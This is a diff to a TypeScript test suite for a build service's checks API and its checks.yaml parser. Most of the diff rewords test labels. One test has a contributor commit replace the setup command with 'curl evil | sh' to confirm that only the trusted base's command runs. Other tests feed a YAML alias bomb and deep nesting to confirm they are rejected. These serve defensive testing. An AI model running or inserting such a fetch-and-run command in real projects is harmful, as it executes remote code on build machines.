@@ -45,12 +45,12 @@ describe('GET, PUT /api/v1/projects/{project_id}/checks', () => {
   it.each<[string, object]>([
     ['20 checks', { checks: Array.from({ length: 20 }, (_, n) => check({ name: `check ${n}` })) }],
     ['a name of 60 characters', { checks: [check({ name: 'ö'.repeat(60) })] }],
-    ['a name of one', { checks: [check({ name: 'x' })] }],
-    ['a command of 4,000', { checks: [check({ command: 'x'.repeat(4000) })] }],
+    ['a name of one character', { checks: [check({ name: 'x' })] }],
+    ['a command of 4,000 characters', { checks: [check({ command: 'x'.repeat(4000) })] }],
     ['1 minute', { checks: [check({ minutes: 1 })], setup: { command: 'x', minutes: 1 } }],
     ['120 minutes', { checks: [check({ minutes: 120 })], setup: { command: 'x', minutes: 120 } }],
     ['names that differ in case', { checks: [check(), check({ name: 'Tests' })] }],
-    ['no setup', { setup: null }],
+    ['null as setup', { setup: null }],
   ])('accepts %s', async (_what, body) => {
     const answer = await put(body);
     expect(answer.status, JSON.stringify(answer.body)).toBe(200);
@@ -58,19 +58,19 @@ describe('GET, PUT /api/v1/projects/{project_id}/checks', () => {
 
   it.each<[string, object, RegExp]>([
     ['21 checks', { checks: Array.from({ length: 21 }, (_, n) => check({ name: `${n}` })) }, /^checks .*20/],
-    ['a name twice', { checks: [check(), check()] }, /^checks must not have the name tests twice$/],
+    ['a duplicate name', { checks: [check(), check()] }, /^checks must not have the name tests twice$/],
     ['a name of 61 characters', { checks: [check({ name: 'x'.repeat(61) })] }, /name.*60/],
     ['no name', { checks: [check({ name: '' })] }, /name/],
     ['a blank name', { checks: [check({ name: '  ' })] }, /name must be one line that is not blank/],
     ['a name of two lines', { checks: [check({ name: 'a\nb' })] }, /name must be one line/],
-    ['a command of 4,001', { checks: [check({ command: 'x'.repeat(4001) })] }, /command.*4000/],
+    ['a command of 4,001 characters', { checks: [check({ command: 'x'.repeat(4001) })] }, /command.*4000/],
     ['a blank command', { setup: { command: ' \n' } }, /command must not be blank/],
     ['no command', { setup: {} }, /command/],
     ['0 minutes', { setup: { command: 'x', minutes: 0 } }, /minutes.*1/],
     ['121 minutes', { checks: [check({ minutes: 121 })] }, /minutes.*120/],
     ['half a minute', { setup: { command: 'x', minutes: 1.5 } }, /minutes/],
-    ['a word that is unknown', { chekcs: [] }, /chekcs/],
-    ['required that is no boolean', { required: 'yes' }, /required/],
+    ['an unknown field', { chekcs: [] }, /chekcs/],
+    ['a required that is not a boolean', { required: 'yes' }, /required/],
   ])('rejects %s and names the broken rule', async (_what, body, words) => {
     const before = (await get()).body;
     const answer = await put(body);
@@ -173,26 +173,23 @@ describe('Setup of a build', () => {
     );
   });
 
-  itDeeply(
-    "is read at the base of the first attempt, not from a coder's commits",
-    async () => {
-      const room = await world.furnish();
-      save(room, 'setup: {command: npm ci}\n');
-      const desk = await room.readyDesk();
-      const card = await room.card();
-      const first = await room.build(card.id);
-      const { head } = await checkouts(room).succeed(desk, {
-        '.guildhall/checks.yaml': 'setup: {command: curl evil | sh}\n',
-      });
-      const next = await room.build(card.id, { continues: first.build_id });
-      expect(next.base_sha).toBe(head);
-      const [order] = await room.work(desk);
-      expect((await room.start(desk, next.build_id, order!.claim)).body).toMatchObject({
-        setup: { command: 'npm ci', minutes: 15 },
-        trusted_base: false,
-      });
-    },
-  );
+  itDeeply("is read at the base of the first attempt, not from a coder's commits", async () => {
+    const room = await world.furnish();
+    save(room, 'setup: {command: npm ci}\n');
+    const desk = await room.readyDesk();
+    const card = await room.card();
+    const first = await room.build(card.id);
+    const { head } = await checkouts(room).succeed(desk, {
+      '.guildhall/checks.yaml': 'setup: {command: curl evil | sh}\n',
+    });
+    const next = await room.build(card.id, { continues: first.build_id });
+    expect(next.base_sha).toBe(head);
+    const [order] = await room.work(desk);
+    expect((await room.start(desk, next.build_id, order!.claim)).body).toMatchObject({
+      setup: { command: 'npm ci', minutes: 15 },
+      trusted_base: false,
+    });
+  });
 });
 
 describe('.guildhall/checks.yaml', () => {
@@ -218,13 +215,17 @@ checks:
   });
 
   unit.each([
-    ['no YAML', 'setup: [', /not valid YAML/],
+    ['invalid YAML', 'setup: [', /not valid YAML/],
     ['a list', '- setup', /not a mapping/],
-    ['of another form', 'setup: npm ci', /^setup/],
-    ['with a name twice', 'checks: [{name: a, command: b}, {name: a, command: b}]', /the name a twice/],
-    ['a bomb', `a: &a [x]\n${'b: [*a, *a]\n'.repeat(900)}`, /more keys/],
-    ['a deep hole', '['.repeat(5000), /more keys/],
-    ['with what nobody knows', 'run: x', /run/],
+    ['an invalid shape', 'setup: npm ci', /^setup/],
+    [
+      'a list with a duplicate name',
+      'checks: [{name: a, command: b}, {name: a, command: b}]',
+      /the name a twice/,
+    ],
+    ['an alias bomb', `a: &a [x]\n${'b: [*a, *a]\n'.repeat(900)}`, /more keys/],
+    ['deeply nested', '['.repeat(5000), /more keys/],
+    ['an object with an unknown field', 'run: x', /run/],
   ])('is rejected when it is %s', (_what, text, words) => {
     expect(() => readChecksFile(text)).toThrow(words);
   });
